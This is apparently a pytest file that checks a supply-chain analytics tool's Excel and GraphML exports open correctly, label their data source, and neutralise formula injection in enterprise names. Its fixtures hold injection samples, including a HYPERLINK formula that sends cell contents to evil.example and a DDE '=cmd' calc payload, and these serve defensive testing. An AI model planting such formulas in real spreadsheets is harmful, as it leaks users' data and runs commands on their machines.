"""The chain workbook and GraphML: they open, carry the data's origin, and hostile enterprise names
(formula triggers, control characters) come out as harmless text."""
from __future__ import annotations

import io

import networkx as nx
import openpyxl
import pandas as pd
import pytest

from tests.ingest.chain_files import A, B, C, D
from tests.outputs.chain_plan import chain_plan_path
from zhizao.analytics import chains as analytics
from zhizao.analytics.chains.data import ChainData
from zhizao.outputs import chain_exports
from zhizao.plan.load import load_plan

HOSTILE = {A: '=HYPERLINK("http://evil.example/?"&A1,"点我")', B: "+1", C: "@x", D: "\x01=1+1 电机\x1f集团"}
SHEETS = ["链条概况", "环节", "供应关系风险", "重点企业风险", "备份企业", "招商清单"]


@pytest.fixture(scope="module")
def plan(tmp_path_factory):
    return load_plan(chain_plan_path(tmp_path_factory.mktemp("plan")))


def frames(synthetic: bool) -> ChainData:
    ent = pd.DataFrame({"enterprise_id": [A, B, C, D, "JP1"], "name": [*HOSTILE.values(), "日本电产"],
                        "district": ["990101", "990102", "510100", "990101", ""],
                        "country": ["CN", "CN", "CN", "CN", "JP"], "output": [12000.0, 8000.0, float("nan"), 50000.0, 9e4]})
    mem = pd.DataFrame({"enterprise_id": [A, "JP1", B, C, D], "chain": ["motors"] * 5,
                        "link": ["magnets", "magnets", "windings", "motor", "motor"],
                        "role": ["supplier", "core", "core", "supplier", "leader"],
                        "capacity": [10000.0, float("nan"), 7000.0, 3000.0, 48000.0]})
    sup = pd.DataFrame({"supplier_id": [A, "JP1", B], "buyer_id": [B, B, D], "chain": ["motors"] * 3,
                        "link": ["magnets", "magnets", "windings"], "share": [0.6, 0.4, 1.0]})
    return ChainData(ent, mem, sup, synthetic=synthetic, source="=cmd|' /C calc'!A0" if not synthetic else "synth",
                     as_of="2025-06-30")


def gaps_or_empty(plan, data):
    if hasattr(analytics, "gaps"):
        return analytics.gaps(plan, data)
    return pd.DataFrame({c: pd.Series(dtype=object) for c in ("rank", "chain", "link", "status")})


@pytest.mark.parametrize("synthetic", [True, False])
def test_workbook_opens_with_every_sheet_and_says_its_source(plan, synthetic):
    data = frames(synthetic)
    risk = analytics.risk(plan, data)
    wb = openpyxl.load_workbook(io.BytesIO(chain_exports.chain_workbook(plan, data, risk, gaps_or_empty(plan, data))))
    assert wb.sheetnames == SHEETS
    for ws in wb.worksheets:
        first = ws["A1"].value
        assert ("合成数据（演示用）" in first) == synthetic
        assert ws.freeze_panes == "A3" and all(c.font.bold for c in ws[2] if c.value is not None)
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    if not synthetic:  # the source's own text follows the words 数据来源, so it cannot start a formula
        assert wb["环节"]["A1"].value.startswith("数据来源：=cmd") and wb["环节"]["A1"].data_type == "s"
    links = wb["环节"]
    heads = [c.value for c in links[2]]
    share = heads.index("本地配套%")
    assert all(isinstance(r[share].value, (int, float)) or r[share].value is None for r in links.iter_rows(min_row=3))


def test_hostile_names_are_text_in_the_workbook(plan):
    data = frames(False)
    risk = analytics.risk(plan, data)
    wb = openpyxl.load_workbook(io.BytesIO(chain_exports.chain_workbook(plan, data, risk, gaps_or_empty(plan, data))))
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    named = [v for v in values if "HYPERLINK" in v]
    assert named and all(v.startswith("'=") for v in named)
    assert "'@x" in values and not any(v.startswith(("=", "@", "＝")) for v in values)
    assert not any(ch in v for v in values for ch in "\x01\x1f")
    assert any("电机集团" in v for v in values)  # the control characters go, the name stays


def test_workbook_of_one_chain_in_english(plan):
    data = frames(True)
    wb = openpyxl.load_workbook(io.BytesIO(chain_exports.chain_workbook(
        plan, data, None, gaps_or_empty(plan, data), "motors", lang="en")))
    assert wb.sheetnames[0] == "Chains" and "SYNTHETIC" in wb["Chains"]["A1"].value
    assert {c.value for c in wb["Links"][2]} >= {"Chain", "Link", "Local %"}


def test_graphml_reads_back_with_links_enterprises_and_supply(plan, tmp_path):
    data = frames(False)
    g = chain_exports.chain_graph(plan, data, None, "motors", enterprises=True)
    path = tmp_path / "motors.graphml"
    chain_exports.write_graphml(g, path)
    back = nx.read_graphml(path)
    kinds = {n: d["kind"] for n, d in back.nodes(data=True)}
    assert {n for n, k in kinds.items() if k == "link"} == {"motors/magnets", "motors/windings", "motors/motor"}
    assert back.has_edge("motors/magnets", "motors/windings") and back.has_edge("motors/windings", "motors/motor")
    assert back.nodes["motors/magnets"]["stage"] == "materials" and back.nodes["motors/magnets"]["grade"] in (
        "high", "medium", "low")
    assert back.edges[f"enterprise:{A}", f"enterprise:{B}"]["share"] == pytest.approx(0.6)
    assert back.edges[f"enterprise:{D}", "motors/motor"]["role"] == "leader"
    text = path.read_text(encoding="utf-8")
    assert "\x01" not in text and "\x1f" not in text and "电机集团" in text
    assert back.graph["synthetic"] is False


def test_graphml_text_is_neutralised_as_in_a_spreadsheet(plan, tmp_path):
    """Gephi and yEd export node tables to CSV/Excel: a hostile name leaves the GraphML as text with the
    leading quote (spreadsheet_safe), numbers stay numbers, a plain signed number stays as it is."""
    from zhizao.outputs.spreadsheet_safe import FORMULA_TRIGGERS, _PLAIN_NUMBER

    data = frames(False)
    path = tmp_path / "motors.graphml"
    chain_exports.write_graphml(chain_exports.chain_graph(plan, data, None, "motors", enterprises=True), path)
    back = nx.read_graphml(path)
    names = {n: d.get("name") for n, d in back.nodes(data=True) if d["kind"] == "enterprise"}
    assert names[f"enterprise:{A}"] == "'" + HOSTILE[A] and names[f"enterprise:{C}"] == "'@x"
    assert names[f"enterprise:{D}"] == "'=1+1 电机集团" and names[f"enterprise:{B}"] == "+1"
    assert back.graph["source"].startswith("'=cmd")
    texts = [v for _, d in back.nodes(data=True) for v in d.values() if isinstance(v, str)]
    texts += [v for *_, d in back.edges(data=True) for v in d.values() if isinstance(v, str)]
    texts += [v for v in back.graph.values() if isinstance(v, str)] + list(back.nodes)
    assert not [v for v in texts if v.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(v)]
    assert back.edges[f"enterprise:{A}", f"enterprise:{B}"]["share"] == pytest.approx(0.6)  # still a number


def test_graphml_without_enterprises_is_the_link_map(plan):
    g = chain_exports.chain_graph(plan, frames(True), None)
    assert all(d["kind"] == "link" for _, d in g.nodes(data=True)) and g.graph["synthetic"] is True
    buf = io.BytesIO()
    chain_exports.write_graphml(g, buf)
    assert nx.read_graphml(io.BytesIO(buf.getvalue())).number_of_nodes() == sum(len(c.links) for c in plan.chains)


def test_chain_warning_rows_have_the_monitoring_rows_shape(plan):
    """The monitoring view's chain rows (for the dashboard's warning table) match `zhizao warnings`'s
    chain rows one to one, titled, most severe first."""
    from zhizao.outputs import monitoring_view as mv

    w = analytics.chain_warnings(plan, frames(True))
    w.attrs["synthetic"] = True
    rows = mv.chain_warning_rows(w, "en")
    assert len(rows) == len(w) and rows and all(r["rule"].startswith("chain_") for r in rows)
    assert all(r["rule_title"] != r["rule"] and r["synthetic"] for r in rows)
    order = [mv.SEVERITY_ORDER[r["severity"]] for r in rows]
    assert order == sorted(order)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_workbook_header_is_words_in_the_readers_language(plan, lang):
    """No column is headed by a code (n_buyers, f_source, why_zh …), each text column in one language, and
    the first line says the synthetic data's source and note in the reader's language."""
    data = ChainData(*(getattr(frames(True), k) for k in ("enterprises", "members", "supply")), synthetic=True,
                     source="合成数据（演示用）：zhizao synth chains, seed 0；产值按规模目标校准（假设） / output calibrated "
                            "to the scale target (assumption)", as_of="2025-06-30")
    wb = openpyxl.load_workbook(io.BytesIO(chain_exports.chain_workbook(plan, data, None, None, lang=lang)))
    cjk = __import__("re").compile(r"[\u3400-\u9fff]")
    for ws in wb.worksheets:
        heads = [c.value for c in ws[2] if c.value is not None]
        codes = [h for h in heads if "_" in h or h in ("inputs", "dominant", "alternatives", "articulation")]
        assert not codes, (ws.title, codes)
        assert len(heads) == len(set(heads)), (ws.title, heads)  # no twin columns (chain_name beside chain)
        if lang == "en":
            assert not [h for h in heads if cjk.search(h)], (ws.title, heads)
    first = wb.worksheets[0]["A1"].value
    if lang == "en":
        assert first.startswith("合成数据（演示用）; SYNTHETIC data (demo): zhizao synth chains, seed 0; output calibrated")
        assert "产值" not in first
    else:
        assert first.startswith("合成数据（演示用）：zhizao synth chains, seed 0；产值按规模目标校准（假设）；数据截至")
        assert "calibrated" not in first
